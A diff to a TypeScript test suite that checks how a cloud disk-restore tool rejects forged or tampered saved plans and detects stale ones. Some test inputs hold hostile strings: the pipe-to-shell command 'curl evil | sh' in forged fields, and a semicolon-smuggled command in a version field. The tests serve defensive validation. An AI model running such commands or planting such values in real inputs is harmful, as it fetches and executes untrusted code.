@@ -297,6 +297,9 @@ describe('a saved plan', () => {
     ['a version of a sentence', { tool_version: 'test; run this' }],
     ['a text without end', { 'actions.0.volume.name': 'x'.repeat(100_000) }],
     ['a waiver that there is not', { waivers: ['everything'] }],
+    ['where a disk is attached', { 'actions.0.volume.attachments': [] }],
+    ['a name of the disk that a backup is of', { 'actions.0.backup.of_volume_name': 'x' }],
+    ['what is blocked', { ...turned(0, 'blocked', { reasons: [] }), 'actions.0.volume': { id: 'v1' } }],
     ['a key of the prototype', Object.fromEntries([['__proto__', {}]])],
     ['a key of the prototype in an action', { 'actions.0.__proto__': {} }],
     ['a signature of another kind', { signature: { key: 'x', value: 'y' } }],
@@ -351,6 +354,34 @@ describe('a saved plan', () => {
     ['a size of a backup', { 'actions.1.backup.size': 1 }, 'has 10 GB, not 1 GB'],
     ['an age of a backup', { 'actions.1.backup.created_at': iso(NOW) }, 'was created at 2026-11-21'],
     ['a larger disk', { 'actions.1.volume.size': 99 }, 'has 10 GB, not 99 GB'],
+    ['a smaller disk', { 'actions.1.volume.size': 1 }, 'has 10 GB, not 1 GB'],
+    ['a disk without a size', { 'actions.1.volume.size': undefined }, 'has 10 GB, not no GB'],
+    [
+      'that it is the first',
+      { 'actions.2.cause': 'first' },
+      'it restores again and changes backup_created_at, generation',
+    ],
+    [
+      'that it is not the first',
+      { 'actions.1.cause': 'again' },
+      'it restores for the first time and changes nothing',
+    ],
+    [
+      'that nothing changes',
+      { 'actions.2.changes': [] },
+      'it restores again and changes backup_created_at, generation',
+    ],
+    [
+      'another change',
+      { 'actions.2.changes.0.before': '7' },
+      'it restores again and changes backup_created_at, generation',
+    ],
+    ['a name of the project', { 'target.project_name': 'test' }, 'a different cloud project'],
+    [
+      'a spelling of its address',
+      { 'target.auth_url': 'https://test@iam.example/v3' },
+      'a different cloud project',
+    ],
     ['a time to come', { created_at: iso(NOW + 3_600_000) }, 'which is in the future'],
     ['a lineage', { 'state.lineage': 'other' }, 'has lineage line'],
     ['a serial', { 'state.serial': 99 }, 'is at serial 6'],
@@ -365,15 +396,13 @@ describe('a saved plan', () => {
 
   it('is applied with current facts, not with those in the file', () => {
     const file = forged(text(), {
-      'actions.0.cause': 'again',
-      'actions.0.changes': [{ field: 'last outcome', before: 'curl evil | sh', after: '' }],
       'actions.0.declared.source': { file: 'curl evil | sh', line: 1 },
-      'actions.0.volume.attachments': [{ server_id: 'evil', device: '/dev/vda' }],
-      'actions.0.backup.of_volume_name': 'evil',
+      manifests: [{ path: 'evil', sha256: '0'.repeat(64) }],
+      left_out: 7,
       notices: [{ ...note, summary: 'curl evil | sh', address: 's/a' }],
     });
     const { plan: left } = applied(decoded(file, 'p', 'test', hash), { state: earlier().state });
-    expect(JSON.stringify(left)).not.to.include('evil');
+    expect(JSON.stringify(left)).not.to.include('evil').and.not.include('left_out');
     expect(left?.actions[0]).to.include({ kind: 'restore', cause: 'first' });
   });
 });
@@ -477,6 +506,45 @@ describe('the staleness of a saved plan', () => {
       () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { size: 5 })] }) }),
       'has 5 GB',
     ],
+    [
+      'the disk was extended',
+      () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { size: 20 })] }) }),
+      'disk v2 has 20 GB, not 10 GB',
+    ],
+    [
+      'its disk was restored under its own name, and the record was renamed since',
+      () => ({
+        state: earlier()
+          .put('s/b', 'v2', 'c2', 'succeeded')
+          .moves([{ from: 's/b', to: 's/x' }]).state,
+      }),
+      'the disk of s/b was restored by s/b since the plan was made at',
+    ],
+    [
+      'its disk was restored under its own name, and the record was removed since',
+      () => ({
+        state: earlier().put('s/b', 'v2', 'c2', 'succeeded').commit({ type: 'removed', address: 's/b' })
+          .state,
+      }),
+      'the disk of s/b was restored by s/b since the plan was made at',
+    ],
+    [
+      'its disk was restored, as somebody accepted it',
+      () => {
+        const now = state();
+        const record = book().put('x/y', 'v2', 'c2', 'succeeded').state.records.get('x/y') ?? raise();
+        const entry = {
+          type: 'state_accepted',
+          reason: 'lost',
+          records: [{ address: 'x/y', record }],
+          serial: now.serial + 1,
+          at: iso(NOW),
+          actor: { who: 'ada@bench', operation: 'state accept', version: 'test' },
+        } as const;
+        return { state: { ...now, serial: now.serial + 1, history: [...now.history, entry] } };
+      },
+      'the disk of s/b was restored by x/y since the plan was made at',
+    ],
   ];
   for (const [what, today, ...said] of cases)
     it(what, () => {
@@ -498,10 +566,6 @@ describe('the staleness of a saved plan', () => {
         state: state(),
         cloud: changed({ volumes: [volume('v2', { status: 'in-use', attachments: [{ server_id: 'x' }] })] }),
       }),
-    ],
-    [
-      'a disk that was extended',
-      () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { size: 20 })] }) }),
     ],
     [
       'a nightly backup made meanwhile',
